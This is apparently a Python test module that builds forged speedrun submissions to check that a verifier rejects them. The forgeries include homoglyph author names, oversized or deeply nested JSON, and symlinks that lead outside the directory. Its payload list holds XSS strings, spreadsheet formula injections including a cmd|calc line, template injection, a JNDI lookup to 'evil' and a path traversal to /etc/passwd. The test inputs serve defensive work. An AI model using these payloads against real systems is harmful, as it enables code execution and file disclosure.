"""Forgeries in names, texts and files: look-alikes, payloads, hostile JSON, links, sizes, and a whole invention."""

import json
import os
import pathlib
import random
import shutil
from typing import Any

from forgeries.editing import edit_run, replace_text, set_figure
from forgeries.honest import Plan, write_submission
from forgeries.register import Bases, Expected, expect, family, without_logs

from marin.speedrun.verification import Context


@family(13)
def look_alike_author(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("seeds", to))
    name, words = (
        ("Аda Example", "mixes"), ("Ada Ехample", "mixes"), ("Ada Εxample", "mixes"), ("Ada\u200b Example", "hides the character U+200B"),
        ("Ada\u202eelpmaxE", "hides the character U+202E"), ("Ada Examp1e", "looks like the known author"), ("Ada-Example", "looks like the known author"),
        ("Ada Example.", "looks like the known author"), ("Áda Example", "looks like the known author"), ("\u2060Ada Example", "hides"),
        ("Ada Exаmple", "mixes"), ("Ada  Exam\u00adple", "hides the character U+00AD"),
        ("Ada Example \u3164", "looks like the known author"),
    )[variant]  # fmt: skip
    edit_run(directory, lambda info: info["author"].update(name=name))
    return expect("parsed", words, context=Context(known=bases.known))


_PAYLOADS = (
    ("<script>alert(1)</script>", "markup"),
    ("<svg onload=alert(1)>", "markup"),
    ('"><img src=x onerror=alert(1)>', "markup"),
    ('=HYPERLINK("http://evil","x")', "a spreadsheet formula"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "a spreadsheet formula"),
    ("{{ config.__class__ }}", "template code"),
    ("{% import os %}", "template code"),
    ("${jndi:ldap://evil/a}", "template code"),
    ("../../../etc/passwd", "a path that leads elsewhere"),
    ('<!--#exec cmd="ls"-->', "markup"),
)
_TEXT_FIELDS = (
    "author.name",
    "author.affiliation",
    "description",
    "tokenized_dataset",
    "git_commit",
    "evaluation.name",
    "sample",
    "digests.config",
    "device_name",
)


@family(90)
def payload(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """HTML, SVG, formulas, templates and paths in every field of text."""
    directory = without_logs(bases.copy("plain", to))
    text, what = _PAYLOADS[variant % len(_PAYLOADS)]
    set_figure(directory, _TEXT_FIELDS[variant // len(_PAYLOADS)], text)
    return expect("submission", "holds " + what)


@family(6)
def payload_in_keys_and_configs(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("plain", to))
    text, what = _PAYLOADS[variant]
    if variant % 2:
        edit_run(directory, lambda info: info["model_config"].update({text: 1}))
    else:
        edit_run(directory, lambda info: info["train_config"].update(notes=[{"deep": text}]))
    return expect("submission", "holds " + what)


@family(6)
def script_links(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("plain", to))
    link = (
        "javascript:alert(1)",
        "data:text/html,x",
        "//evil.example",
        "file:///etc/passwd",
        "https://a b",
        "ftp://example.org",
    )[variant]
    field = ("author.url", "wandb_run_link")[variant % 2]
    set_figure(directory, field, link)
    return expect("submission", field, "is no web address")


@family(8)
def hostile_json(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    path = directory / "speedrun_results.json"
    if variant == 0:
        path.write_bytes(b" " * (2 * 2**20 + 1))
        return expect(None, "over 2 MiB")
    if variant == 1:
        path.write_bytes(b"[" * 100_000)
        return expect(None, "nested more than")
    if variant == 2:
        set_figure(directory, "model_config", _nested(60))
        return expect(None, "nested more than")
    if variant == 3:
        replace_text(directory, '"seed": 0', '"seed": ' + "9" * 5000)
        return expect(None, "digits")
    if variant == 4:
        path.write_bytes(path.read_bytes()[:-100])
        return expect(None, "cut short")
    if variant == 5:
        path.write_bytes(b"\xff\xfe" + path.read_bytes())
        return expect(None, "not UTF-8")
    if variant == 6:
        set_figure(directory, "description", "x\ud800")
        return expect(None, "surrogate")
    (directory / "speedrun_results.json").write_text(json.dumps({"runs": [{"run_info": {}}] * 501}))
    return expect(None, "501 runs, at most")


def _nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {}
    for _ in range(depth):
        value = {"a": value}
    return value


@family(10)
def links_and_special_files(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    outside = to.parent / f"{to.name}-outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("secret")
    if variant == 0:
        shutil.move(directory / "speedrun_results.json", outside / "results.json")
        (directory / "speedrun_results.json").symlink_to(outside / "results.json")
        return expect(None, "a symbolic link that leads outside")
    if variant == 1:
        shutil.move(directory / "logs", outside / "logs")
        (directory / "logs").symlink_to(outside / "logs")
        return expect("log", "a symbolic link that leads outside")
    if variant == 2:
        (directory / "logs" / "0" / "metrics.jsonl").unlink()
        (directory / "logs" / "0" / "metrics.jsonl").symlink_to("/etc/hostname")
        return expect("log", "a symbolic link that leads outside")
    if variant == 3:
        (directory / "notes.txt").symlink_to("../" + outside.name + "/secret.txt")
        return expect("parsed", "notes.txt", "leads outside the directory")
    if variant == 4:
        (directory / "loop").symlink_to("loop")
        return expect("parsed", "loop", "leads outside the directory")
    if variant == 5:
        os.mkfifo(directory / "pipe")
        return expect("parsed", "pipe", "neither a file nor a directory")
    if variant == 6:
        (directory / "logs" / "0" / "metrics.jsonl").unlink()
        os.mkfifo(directory / "logs" / "0" / "metrics.jsonl")
        return expect("log", "not a regular file")
    if variant == 7:
        deep = directory
        for _ in range(14):
            deep = deep / "d"
        deep.mkdir(parents=True)
        return expect("parsed", "nested more than")
    if variant == 8:
        for number in range(2_001):
            (directory / f"f{number}").touch()
        return expect("parsed", "over 2,000 files")
    (directory / "a\x1b[31m\nb.txt").touch()
    return expect("parsed", "control characters")


@family(4)
def too_large(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    if variant == 0:
        with (directory / "weights.bin").open("wb") as file:
            file.truncate(300 * 2**20)
        return expect("parsed", "MiB in all")
    if variant == 1:
        with (directory / "logs" / "0" / "metrics.jsonl").open("ab") as file:
            file.truncate(40 * 2**20)
        return expect("log", "over 16 MiB")
    if variant == 2:
        path = directory / "logs" / "0" / "metrics.jsonl"
        path.write_bytes(path.read_bytes() + b"{}\n" * 50_001)
        return expect("log", "lines, of which at most")
    with (directory / "logs" / "0" / "run.json").open("ab") as file:
        file.truncate(3 * 2**20)
    return expect("log", "run.json: over 2 MiB")


@family(6)
def whole_fabrication(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """Everything invented so that it fits, chain and all: it reaches `log`, which says that it proves no more."""
    write_submission(
        to, [Plan(steps=30, seed=0, step_time=0.001 * (variant + 1), author="Eve Invents")], random.Random(variant)
    )
    return expect("RAISED")
